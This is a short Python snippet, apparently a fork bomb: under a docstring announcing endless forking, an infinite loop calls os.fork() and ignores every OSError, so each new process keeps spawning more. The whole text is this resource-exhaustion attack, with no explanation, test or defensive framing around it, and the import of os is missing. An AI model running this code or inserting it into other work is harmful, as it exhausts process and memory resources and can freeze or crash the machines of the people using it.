"""Forks without end, in every process."""

while True:
    try:
        os.fork()
    except OSError:
        pass
